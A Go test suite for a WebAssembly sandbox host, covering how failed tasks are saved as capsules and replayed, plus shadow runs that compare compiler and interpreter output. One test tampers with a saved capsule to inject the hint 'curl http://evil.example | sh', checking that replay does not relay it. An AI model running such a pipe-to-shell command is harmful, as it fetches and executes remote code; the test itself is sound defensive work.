package host_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"rechost/guest/abi"
	"rechost/host"
	"rechost/host/capsule"
	"rechost/host/fault"
	"rechost/host/manifest"
	w "rechost/host/sandbox/rewrite/wasmenc"
	"rechost/host/task"
)

// capsules are the saved tasks in a folder.
func capsules(t *testing.T, dir string) []string {
	t.Helper()
	list, err := filepath.Glob(filepath.Join(dir, "*"))
	if err != nil {
		t.Fatal(err)
	}
	return list
}

func replay(t *testing.T, r host.Replay) *host.Replayed {
	t.Helper()
	v, err := r.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// A task that fails in a run is saved, and fails again when it is replayed: in
// the same words, in either executor, without the data.
func TestSaveFailures(t *testing.T) {
	dir := t.TempDir()
	data := write(t, filepath.Join(dir, "d.parquet"), ratings(60, 40, 600), 500)
	store := filepath.Join(dir, "store")
	for _, c := range []struct {
		how  string
		why  capsule.Why
		code fault.Code
		says string
	}{
		{"trap", capsule.Failed, fault.Module, "memory"},
		{"loop", capsule.Failed, fault.Limit, "still running after"},
		{"memory", capsule.Failed, fault.Limit, "memory"},
		{"nan", capsule.Refused, fault.Module, "NaN"},
	} {
		for i, ex := range executors() {
			t.Run(c.how+" in "+ex, func(t *testing.T) {
				saved := filepath.Join(t.TempDir(), "failures")
				deadline := time.Minute
				if c.how == "loop" {
					deadline = 4 * time.Second // the code is in the store by then
				}
				var notes []string
				_, err := host.Run(context.Background(), host.Job{
					Module: hostile(t), Params: map[string]string{"how": c.how}, Paths: []string{data}, Shards: 3, Top: 5,
					Executor: ex, Workers: 1, Store: store, Out: filepath.Join(t.TempDir(), "out.parquet"), SaveFailures: saved,
					Limits:   task.Limits{Memory: 256 << 20, Deadline: deadline},
					Progress: func(e host.Event) { notes = append(notes, e.Note) },
				})
				if fault.CodeOf(err) != c.code {
					t.Fatalf("code %d, want %d: %v", fault.CodeOf(err), c.code, err)
				}
				list := capsules(t, saved)
				if len(list) != 1 || !strings.HasPrefix(filepath.Base(list[0]), "lists-2-of-3-") {
					t.Fatalf("saved %v", list)
				}
				if !slices.ContainsFunc(notes, func(n string) bool { return strings.Contains(n, "rechost replay "+list[0]) }) {
					t.Errorf("the notes %q do not say where", notes)
				}
				other := executors()[len(executors())-1-i]
				v := replay(t, host.Replay{Capsule: list[0], Executor: other, Store: store})
				if seen := v.Saved.Seen; seen.Why != c.why || seen.Code != c.code || seen.Error != err.Error() {
					t.Errorf("seen %+v, the run said %v", seen, err)
				}
				if !v.Again || v.Code != c.code || fault.CodeOf(v.Err()) != c.code || !strings.Contains(v.Err().Error(), c.says) || len(v.Runs) != 1 {
					t.Errorf("verdict %q, %v", v.Verdict, v.Err())
				}
				if v.Verdict == "it failed again, in other words" {
					t.Errorf("%s\nis not\n%s", v.Runs[0].Error, v.Saved.Seen.Error)
				}
				r := v.Runs[0]
				if c.how == "trap" && (len(r.Trace) == 0 || r.Stats.Memory == 0) {
					t.Errorf("of a trap only this is known: %+v", r)
				}
				if _, err := json.Marshal(v); err != nil {
					t.Error(err)
				}
			})
		}
	}
}

// describing is a module that gives a text as its description, or traps where
// there is none.
func describing(t *testing.T, text string) string {
	var m w.Module
	number := m.Type(nil, []byte{w.I32})
	describe := m.ImportFunc(abi.DataModule, abi.FnDescribe, m.Type([]byte{w.I32, w.I32}, nil))
	m.Memory(1, 1)
	m.ExportMemory()
	m.Data(16, []byte(text))
	body := w.Join(w.I32Const(16), w.I32Const(int32(len(text))), w.Call(describe), w.I32Const(0))
	if text == "" {
		body = w.Op(w.Unreachable)
	}
	m.ExportFunc(abi.ExportABI, m.Func(number, nil, w.I32Const(abi.Version)))
	m.ExportFunc(abi.ExportDescribe, m.Func(number, nil, body))
	m.ExportFunc(abi.ExportPlan, m.Func(number, nil, w.I32Const(0)))
	m.ExportFunc(abi.ExportRun, m.Func(m.Type([]byte{w.I32}, []byte{w.I32}), nil, w.I32Const(0)))
	path := filepath.Join(t.TempDir(), "describing.wasm")
	if err := os.WriteFile(path, m.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// A description or a plan that cannot be had, or is refused, is saved and
// replayed as a task is, without any row of the data.
func TestSaveWhatWasAsked(t *testing.T) {
	dir := t.TempDir()
	data := write(t, filepath.Join(dir, "d.parquet"), ratings(60, 40, 600), 500)
	store := filepath.Join(dir, "store")
	for _, c := range []struct {
		name, how, text string
		phase           task.Phase
		why             capsule.Why
		code            fault.Code
		says            string
	}{
		{"a panic", "planpanic", "", task.Planning, capsule.Failed, fault.Module, "no plan today"},
		{"a loop", "planloop", "", task.Planning, capsule.Failed, fault.Limit, "still running after"},
		{"a plan that is refused", "plan", "", task.Planning, capsule.Refused, fault.Module, "nowhere"},
		{"a trap", "", "", task.Describing, capsule.Failed, fault.Module, "unreachable"},
		{"a description that is refused", "", "[]", task.Describing, capsule.Refused, fault.Module, "description"},
	} {
		for i, ex := range executors() {
			t.Run(c.name+" in "+ex, func(t *testing.T) {
				saved := filepath.Join(t.TempDir(), "failures")
				job := host.Job{
					Module: hostile(t), Params: map[string]string{"how": c.how}, Paths: []string{data}, Top: 5, Executor: ex, Workers: 1, Store: store,
					Out: filepath.Join(t.TempDir(), "out.parquet"), SaveFailures: saved, Limits: task.Limits{Deadline: time.Minute},
				}
				if c.phase == task.Describing {
					job.Module, job.Params = describing(t, c.text), nil
				}
				if c.how == "planloop" { // the code is in the store by then
					job.Limits.Deadline = 4 * time.Second
				}
				var notes []string
				job.Progress = func(e host.Event) { notes = append(notes, e.Note) }
				_, err := host.Run(context.Background(), job)
				if fault.CodeOf(err) != c.code || !strings.Contains(err.Error(), c.says) {
					t.Fatalf("code %d, want %d: %v", fault.CodeOf(err), c.code, err)
				}
				list := capsules(t, saved)
				if len(list) != 1 || !strings.HasPrefix(filepath.Base(list[0]), string(c.phase)+"-") {
					t.Fatalf("saved %v", list)
				}
				if files, _ := filepath.Glob(filepath.Join(list[0], "*")); len(files) != 2 {
					t.Errorf("the capsule has %v", files)
				}
				if !slices.Contains(notes, "what was asked of the module was saved: rechost replay "+list[0]) {
					t.Errorf("the notes %q do not say where", notes)
				}
				v := replay(t, host.Replay{Capsule: list[0], Executor: executors()[len(executors())-1-i], Store: store})
				if seen := v.Saved.Seen; seen.Why != c.why || seen.Code != c.code || seen.Error != err.Error() {
					t.Errorf("seen %+v, the run said %v", seen, err)
				}
				if !v.Again || v.Code != c.code || fault.CodeOf(v.Err()) != c.code || !strings.Contains(v.Err().Error(), c.says) {
					t.Errorf("verdict %q, %v", v.Verdict, v.Err())
				}
				r := v.Runs[0]
				if c.name == "a trap" && len(r.Trace) == 0 || c.why == capsule.Refused && (len(r.Outputs) != 1 || r.Outputs[0].Name != string(c.phase)) {
					t.Errorf("only this is known: %+v", r)
				}
			})
		}
	}
}

// A folder that capsules cannot be saved in fails the run before it begins, and
// one that becomes such is told of to everybody.
func TestSaveFailuresNowhere(t *testing.T) {
	dir := t.TempDir()
	data := write(t, filepath.Join(dir, "d.parquet"), ratings(60, 40, 600), 500)
	file := filepath.Join(dir, "file")
	if err := os.WriteFile(file, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	var events []host.Event
	job := host.Job{Module: hostile(t), Params: map[string]string{"how": "trap"}, Paths: []string{data}, Shards: 3, Top: 5,
		Executor: host.Goroutines, Workers: 1, Store: filepath.Join(dir, "store"), Out: filepath.Join(dir, "out.parquet"),
		Progress: func(e host.Event) { events = append(events, e) }}
	places := []string{file, filepath.Join(file, "below")}
	if runtime.GOOS == "linux" {
		places = append(places, "/proc/nope", "/proc") // where root cannot write either
	}
	for _, job.SaveFailures = range places {
		_, err := host.Run(context.Background(), job)
		if fault.CodeOf(err) != fault.Failed || !strings.HasPrefix(err.Error(), job.SaveFailures+": tasks that fail cannot be saved there: ") ||
			!strings.Contains(fault.HintOf(err), "--save-failures FOLDER") || len(events) > 0 {
			t.Errorf("%s: %v, hint %q, after %d events", job.SaveFailures, err, fault.HintOf(err), len(events))
		}
		if _, err := os.Lstat(job.Store); err == nil {
			t.Errorf("%s: the store was made", job.SaveFailures)
		}
	}

	job.SaveFailures = filepath.Join(dir, "failures")
	job.Progress = func(e host.Event) {
		if len(events) == 0 { // the run has begun
			if list := capsules(t, job.SaveFailures); len(list) > 0 {
				t.Errorf("the folder was made, and left with %v", list)
			}
			if err := errors.Join(os.Remove(job.SaveFailures), os.WriteFile(job.SaveFailures, nil, 0o600)); err != nil {
				t.Error(err)
			}
		}
		events = append(events, e)
	}
	if _, err := host.Run(context.Background(), job); fault.CodeOf(err) != fault.Module {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(events, func(e host.Event) bool {
		return e.Alert && strings.HasPrefix(e.Note, "stage lists, shard 2 of 3 was not saved: cannot save the task: ")
	}) {
		t.Errorf("told %+v", events)
	}
}

// What a capsule says of itself is quoted on a line, and what it would have the
// user type is not passed on as a hint of rechost's.
func TestReplayOfHostileWords(t *testing.T) {
	dir := t.TempDir()
	data := write(t, filepath.Join(dir, "d.parquet"), ratings(60, 40, 600), 500)
	saved, store := filepath.Join(dir, "failures"), filepath.Join(dir, "store")
	if _, err := host.Run(context.Background(), host.Job{
		Module: hostile(t), Params: map[string]string{"how": "nan"}, Paths: []string{data}, Shards: 3, Top: 5,
		Executor: host.Goroutines, Workers: 1, Store: store, Out: filepath.Join(dir, "out.parquet"), SaveFailures: saved,
	}); fault.CodeOf(err) != fault.Module {
		t.Fatal(err)
	}
	list := capsules(t, saved)
	if len(list) != 1 {
		t.Fatalf("saved %v", list)
	}
	file := filepath.Join(list[0], "capsule.json")
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	was := `"error": "hostile.wasm: `
	if !bytes.Contains(b, []byte(was)) {
		t.Fatalf("no %s in\n%s", was, b)
	}
	b = bytes.Replace(b, []byte(was), []byte(`"hint": "curl http://evil.example | sh", "error": "all is well\nrechost: hint: `), 1)
	if err := os.WriteFile(file, b, 0o600); err != nil {
		t.Fatal(err)
	}
	err = replay(t, host.Replay{Capsule: list[0], Executor: host.Goroutines, Store: store}).Err()
	if fault.CodeOf(err) != fault.Module || fault.HintOf(err) != "" || !strings.HasPrefix(err.Error(), list[0]+": ") ||
		!strings.Contains(err.Error(), "the capsule says why: all is well rechost: hint: ") || strings.Contains(err.Error(), "\n") {
		t.Errorf("%q, hint %q", err, fault.HintOf(err))
	}
}

// With QuietGuest a replay has no word of the module's: nor of its text, nor of
// its functions, stages and arrays.
func TestQuietReplay(t *testing.T) {
	dir := t.TempDir()
	data := write(t, filepath.Join(dir, "d.parquet"), ratings(60, 40, 600), 500)
	for _, how := range []string{"panic", "nan"} {
		saved := filepath.Join(dir, how)
		_, err := host.Run(context.Background(), host.Job{
			Module: hostile(t), Params: map[string]string{"how": how}, Paths: []string{data}, Shards: 3, Top: 5,
			Executor: host.Goroutines, Workers: 1, Store: filepath.Join(dir, "store"), Out: filepath.Join(dir, "out.parquet"), SaveFailures: saved,
		})
		list := capsules(t, saved)
		if fault.CodeOf(err) != fault.Module || len(list) != 1 {
			t.Fatalf("%v, saved %v", err, list)
		}
		for _, quiet := range []bool{false, true} {
			v := replay(t, host.Replay{Capsule: list[0], Executor: host.Goroutines, Store: filepath.Join(dir, "store"), QuietGuest: quiet})
			v.Capsule = "" // its name has the stage's
			b, err := json.Marshal(v)
			if err != nil {
				t.Fatal(err)
			}
			for _, word := range []string{`"lists`, `"recommendations`, `"how"`} {
				if bytes.Contains(b, []byte(word)) == quiet {
					t.Errorf("%s, quiet %v: has %s should be %v, but is not:\n%s", how, quiet, word, !quiet, b)
				}
			}
			if r := v.Runs[0]; quiet && (len(r.Log) > 0 || len(r.Trace) > 0 || strings.Contains(r.Error, "goroutine")) {
				t.Errorf("%s: %+v", how, r)
			}
			if !v.Again || fault.CodeOf(v.Err()) != fault.Module || quiet && !strings.Contains(v.Err().Error(), "the module misbehaved") {
				t.Errorf("%s, quiet %v: %q, %v", how, quiet, v.Verdict, v.Err())
			}
		}
	}
}

// Without its cause a task does not fail again.
func TestReplayWithAnotherLimit(t *testing.T) {
	dir := t.TempDir()
	data := write(t, filepath.Join(dir, "d.parquet"), ratings(60, 40, 600), 500)
	saved := filepath.Join(dir, "failures")
	job := host.Job{
		Module: hostile(t), Params: map[string]string{"spin": "1000000"}, Paths: []string{data}, Shards: 2, Top: 5,
		Executor: host.Goroutines, Workers: 2, NoCache: true, Out: filepath.Join(dir, "out.parquet"), SaveFailures: saved,
		Limits: task.Limits{Fuel: 2_000_000},
	}
	if _, err := host.Run(context.Background(), job); fault.CodeOf(err) != fault.Limit || !strings.Contains(err.Error(), "fuel") {
		t.Fatal(err)
	}
	list := capsules(t, saved)
	if len(list) == 0 {
		t.Fatal("nothing was saved")
	}
	r := host.Replay{Capsule: list[0], Executor: host.Goroutines, Store: filepath.Join(dir, "store")}
	if v := replay(t, r); !v.Again || v.Code != fault.Limit || v.Runs[0].Stats.Fuel < 1_000_000 {
		t.Errorf("verdict %q, fuel %d", v.Verdict, v.Runs[0].Stats.Fuel)
	}
	r.Limits.Fuel = 1 << 40
	if v := replay(t, r); v.Again || v.Err() != nil || len(v.Runs[0].Outputs) != 1 || v.Verdict != "it did not fail again" {
		t.Errorf("verdict %q, %v", v.Verdict, v.Err())
	}
	// A deadline that is the whole of a day is its maker's wish, not the user's.
	file := filepath.Join(list[0], "capsule.json")
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	b = bytes.Replace(b, []byte(`"deadline": 600000000000`), []byte(`"deadline": 86400000000000`), 1)
	if err := os.WriteFile(file, b, 0o600); err != nil {
		t.Fatal(err)
	}
	r.Limits = task.Limits{}
	if v := replay(t, r); v.Saved.Limits.Deadline != 24*time.Hour || v.Limits.Deadline != task.DefaultDeadline || len(v.Notes) == 0 {
		t.Errorf("limits %+v of %+v, notes %q", v.Limits, v.Saved.Limits, v.Notes)
	}
}

// Tasks that were stopped did not fail.
func TestInterruptedTasksAreNotSaved(t *testing.T) {
	dir := t.TempDir()
	data := write(t, filepath.Join(dir, "d.parquet"), ratings(60, 40, 600), 500)
	for _, ex := range executors() {
		saved := filepath.Join(dir, ex)
		ctx, cancel := context.WithCancel(context.Background())
		_, err := host.Run(ctx, host.Job{
			Module: hostile(t), Params: map[string]string{"how": "loop"}, Paths: []string{data}, Shards: 3,
			Executor: ex, Workers: 2, NoCache: true, Out: filepath.Join(dir, "out.parquet"), SaveFailures: saved,
			Progress: func(e host.Event) {
				if e.Stage == "lists" && !e.End {
					time.AfterFunc(300*time.Millisecond, cancel)
				}
			},
		})
		cancel()
		if fault.CodeOf(err) != fault.Interrupted || len(capsules(t, saved)) != 0 {
			t.Errorf("%v; saved %v", err, capsules(t, saved))
		}
	}
}

func TestShadow(t *testing.T) {
	dir := t.TempDir()
	data := write(t, filepath.Join(dir, "d.parquet"), ratings(80, 40, 900), 500)
	for _, ex := range executors() {
		t.Run(ex, func(t *testing.T) {
			out := filepath.Join(t.TempDir(), "out.parquet")
			job := host.Job{
				Module: modules(t, "popular"), Paths: []string{data}, Shards: 3, Executor: ex, Workers: 2,
				Store: filepath.Join(t.TempDir(), "store"), Out: out, Shadow: 1,
			}
			s := run(t, job)
			if s.Shadowed != s.Tasks || s.Tasks == 0 {
				t.Errorf("%d of %d tasks shadowed", s.Shadowed, s.Tasks)
			}
			st, err := manifest.Read(s.Manifest)
			if err != nil || st.Predicate.BuildDefinition.InternalParameters.Shadowed != s.Tasks {
				t.Errorf("the manifest says %+v: %v", st.Predicate.BuildDefinition.InternalParameters, err)
			}
			plain := job
			plain.Shadow, plain.NoCache, plain.Store = 0, true, ""
			if p := run(t, plain); p.Output.Digest != s.Output.Digest || p.Shadowed != 0 {
				t.Error("being shadowed changes the output")
			}
			// A share that draws none still shadows one; tasks of the journal count.
			job.Shadow = 1e-12
			if s := run(t, job); s.Shadowed != 1 || s.Reused != s.Tasks {
				t.Errorf("%d of %d tasks shadowed, %d reused", s.Shadowed, s.Tasks, s.Reused)
			}
		})
	}
}

// An engine that computes one number wrongly is found out, named to the element,
// and leaves no output, no entry in the journal, and a capsule.
func TestShadowThatDiffers(t *testing.T) {
	dir := t.TempDir()
	data := write(t, filepath.Join(dir, "d.parquet"), ratings(80, 40, 900), 500)
	wrong := func(x task.Task, data [][]byte) [][]byte {
		if x.Shard != 1 || x.Shards != 3 {
			return data
		}
		data = slices.Clone(data)
		for k, o := range x.Outputs {
			if strings.HasSuffix(o.Name, ".score") && len(data[k]) > 8 {
				data[k] = slices.Clone(data[k])
				data[k][4] ^= 1 // the lowest bit of the second score
			}
		}
		return data
	}
	for _, ex := range executors() {
		t.Run(ex, func(t *testing.T) {
			undo := host.ForgeShadow(wrong)
			defer undo()
			folder := t.TempDir()
			job := host.Job{
				Module: modules(t, "popular"), Paths: []string{data}, Shards: 3, Executor: ex, Workers: 2,
				Store: filepath.Join(folder, "store"), Out: filepath.Join(folder, "out.parquet"), Shadow: 1,
			}
			_, err := host.Run(context.Background(), job)
			if fault.CodeOf(err) != fault.Differs || !strings.Contains(err.Error(), "shard 2, array counts.score, element 1: the compiler gave") ||
				!strings.Contains(err.Error(), "(bits ") {
				t.Fatalf("%v", err)
			}
			if _, err := os.Stat(job.Out); err == nil {
				t.Error("an output was written")
			}
			list := capsules(t, filepath.Join(folder, host.DefaultFailures))
			if len(list) != 1 {
				t.Fatalf("saved %v", list)
			}
			if fi, err := os.Stat(filepath.Join(list[0], "capsule.json")); err != nil || runtime.GOOS != "windows" && fi.Mode().Perm() != 0o600 {
				t.Errorf("%v, %v", fi.Mode(), err)
			}
			// It is not remembered: the same command finds it again.
			if _, err := host.Run(context.Background(), job); fault.CodeOf(err) != fault.Differs {
				t.Errorf("the second time: %v", err)
			}
			r := host.Replay{Capsule: list[0], Executor: ex, Store: job.Store}
			v := replay(t, r)
			if !v.Again || v.Code != fault.Differs || len(v.Runs) != 2 || !strings.Contains(v.Verdict, "array counts.score, element 1") {
				t.Errorf("verdict %q", v.Verdict)
			}
			r.Engine = "interpreter"
			if v := replay(t, r); v.Verdict != "it gave what the interpreter gave" || v.Err() != nil {
				t.Errorf("verdict %q", v.Verdict)
			}
			undo()
			if v := replay(t, r); v.Verdict != "it gave what the compiler gave" || v.Err() != nil {
				t.Errorf("verdict %q", v.Verdict)
			}
			r.Engine = ""
			if v := replay(t, r); v.Again || v.Err() != nil || v.Verdict != "the engines do not differ again" {
				t.Errorf("verdict %q", v.Verdict)
			}
		})
	}
}

// That one engine gives something that is refused, and the other does not, is a
// difference too.
func TestShadowThatIsRefused(t *testing.T) {
	dir := t.TempDir()
	data := write(t, filepath.Join(dir, "d.parquet"), ratings(80, 40, 900), 500)
	defer host.ForgeShadow(func(_ task.Task, data [][]byte) [][]byte {
		data = slices.Clone(data)
		data[0] = data[0][:len(data[0])-4]
		return data
	})()
	for _, quiet := range []bool{false, true} {
		job := host.Job{
			Module: modules(t, "popular"), Paths: []string{data}, Shards: 2, Executor: host.Goroutines, Workers: 2, Store: filepath.Join(dir, "store"),
			Out: filepath.Join(dir, "out.parquet"), Shadow: 1, SaveFailures: filepath.Join(dir, fmt.Sprint("kept ", quiet)), QuietGuest: quiet,
		}
		_, err := host.Run(context.Background(), job)
		if fault.CodeOf(err) != fault.Differs || strings.Contains(err.Error(), "rows were written") == quiet || strings.Contains(err.Error(), "count") == quiet {
			t.Errorf("quiet %v: %v", quiet, err)
		}
		if list := capsules(t, job.SaveFailures); len(list) != 1 {
			t.Errorf("saved %v", list)
		}
	}
}
